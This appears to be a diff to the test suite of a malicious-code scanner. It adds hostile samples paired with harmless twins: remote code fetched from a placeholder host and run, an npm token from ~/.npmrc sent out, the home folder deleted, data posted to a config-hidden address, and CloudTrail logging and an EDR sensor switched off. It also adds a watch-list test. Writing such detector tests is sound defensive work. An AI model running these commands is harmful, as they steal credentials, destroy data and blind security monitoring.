@@ -202,6 +202,32 @@ BLOCKED: dict[str, tuple[Files, Files]] = {
         {"a.py": f"info = {{'host': platform.node()}}\nrequests.post('{AT}/u', json=info)\n"},
         {"a.py": "info = {'host': platform.node()}\nprint(info)\n"},
     ),
+    "a constructor of functions that is reached by a prototype": (
+        {"a.js": f"fetch('{AT}/n').then(r => r.text()).then(s => new (Object.getPrototypeOf(async function(){{}}).constructor)('x', s)(1));\n"},
+        {"a.js": "const kind = Object.getPrototypeOf(async function(){}).constructor;\nconsole.log(f instanceof kind);\n"},
+    ),
+    "a request that is signed with the key of another service": (
+        {"a.mjs": f"const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst key = /_authToken=(\\S+)/.exec(rc)?.[1];\nawait fetch('{AT}/whoami', {{ headers: {{ authorization: `Bearer ${{key}}` }} }});\n"},
+        {"a.mjs": "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconsole.log(rc.includes('registry='));\nawait fetch('https://registry.npmjs.org/notes');\n"},
+    ),
+    "all that a listing of the home folder gave": (
+        {"a.ts": "const all = late ? fs.readdirSync(os.homedir()).map(n => path.join(os.homedir(), n)) : [dir];\nfor (const t of all) {\n  fs.rmSync(t, { recursive: true, force: true });\n}\n"},
+        {"a.ts": "const all = fs.readdirSync(dir).map(n => path.join(dir, n));\nfor (const t of all) {\n  fs.rmSync(t, { recursive: true, force: true });\n}\n"},
+    ),
+    "an address that stands in a file of settings": (
+        {
+            "c.json": f'{{"base": "https://slack.com/api/", "spare": "{AT}/q"}}',
+            "a.py": "C = json.loads(open('c.json').read())\nout = json.loads(read())\ntry:\n    urlopen(Request(C.get('spare'), json.dumps([out]).encode()))\nexcept OSError:\n    pass\n",
+        },
+        {
+            "c.json": f'{{"base": "https://slack.com/api/", "spare": "{AT}/q"}}',
+            "a.py": "C = json.loads(open('c.json').read())\nkey = os.environ['SLACK_BOT_TOKEN']\nurlopen(Request(C['base'] + 'post', b'', {'Authorization': key}))\n",
+        },
+    ),
+    "several guards of a cloud that are switched off": (
+        {"a.sh": "aws cloudtrail stop-logging --name default\nsudo systemctl disable --now falcon-sensor\n"},
+        {"a.sh": "aws cloudtrail get-trail-status --name default\nsystemctl status falcon-sensor\n"},
+    ),
 }  # fmt: skip
 
 
@@ -249,3 +275,10 @@ def test_a_program_that_stays_and_fetches_is_worse_than_each(tmp_path: Path) -> 
         for number, text in enumerate((stays, fetches, stays + fetches))
     ]
     assert decisions == [Decision.REVIEW, Decision.REVIEW, Decision.BLOCK]
+
+
+def test_a_row_of_words_that_are_looked_for_is_no_command(tmp_path: Path) -> None:
+    words = "WATCH = [b'powershell', b'schtasks', b'/dev/tcp', b'vssadmin', b'CurrentVersion\\\\Run', b'curl ', b'cmd.exe']\n"
+    assert (
+        scan(lay_out({"a.py": words + "print([w for w in WATCH if w in data])\n"}, tmp_path)).decision == Decision.CLEAN
+    )
